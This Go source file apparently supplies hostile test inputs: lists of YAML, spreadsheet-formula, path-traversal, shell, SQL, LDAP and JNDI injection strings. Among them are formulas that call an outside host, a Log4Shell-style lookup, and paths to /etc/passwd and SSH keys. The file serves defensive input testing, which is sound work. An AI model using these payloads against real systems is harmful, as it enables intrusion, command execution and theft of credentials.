package hostile

// yamls want to be something else than a scalar, in the block and in the flow style
// (YAML 1.2.2), or another value than was written.
func yamls() []string {
	return []string{"a: b", "- a", "# remark", "a #b", "&a", "*a", "!!binary x", "!!python/object:os.system x", "|", "|+\n  x", "---", "--- x", "<<: *a", "{a: b}", "[a", "}", ",", "@x", "null", "~", "yes",
		"0x10", "1e3", "2001-01-01", `"x`, "'x", `"\x41"`, "x\nentries: []", "x\n---\nversion: 1\nhost: other", "x\"\n    owner: mallory", "x\n  - port: 31337\n    why: fine", "a\tb", "why: x", "x:", "\u2028a: b"}
}

// formulas are computed by a spreadsheet that opens the cell, or leave it.
func formulas() []string {
	return []string{"=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", `=HYPERLINK("http:` + elsewhere + `","all is well")`, "=cmd|'/C id'!A1", `=WEBSERVICE("http:` + elsewhere + `")`,
		`","=1+1`, "\"\n=1+1,", ";=1+1", "\uff1d1+1", "a,b", "a;b", `a""b`}
}

// paths lead to another file or page.
func paths() []string {
	return []string{".", "..", "../", "../../../../etc/passwd", `..\..\..\windows\win.ini`, "%2e%2e%2fetc%2fpasswd", "..;/", "/..", "/../about", "/etc/passwd\x00.png", "x/../../about", "x/", "//x",
		"~/.ssh/id_ed25519", `\\x\y`, "CON", "x?y", "x#y", "*", "web1/remove", "web1%2fremove", "web1?state=all", "-", "_", "a..b", ".a", "xn--nxasmq6b", "[::1]", "www." + CanaryHost}
}

// shells are run by a shell when they stand unquoted, or in the wrong quotes, and are
// taken for an option by a program.
func shells() []string {
	return []string{"$(id)", "`id`", "; id", "| id", "& id", "\nid\n", "> /tmp/x", "$HOME", "${IFS}id", "'; id; '", `"; id; "`, "!!", "{a,b}", "a\\\nb", "#", "-rf", "--help", "-oProxyCommand=id", "<(id)",
		"x.service; id", "--now.service", "$(id).service", "x\nid.service", `x\x2dy.service`, "docker-$(id).scope"}
}

// queries are taken for part of a question to a database, or for a format.
func queries() []string {
	return []string{"' OR '1'='1", `" OR "1"="1`, "'; DROP TABLE alerts; --", "1; SELECT pg_sleep(9)", "%' ESCAPE '", "100%", `\'`, "port:80 OR 1", "%s%s%s%n", "%1000000d",
		"${jndi:ldap:" + elsewhere + "/x}", "*)(uid=*", "$where", ".*(a+)+$"}
}
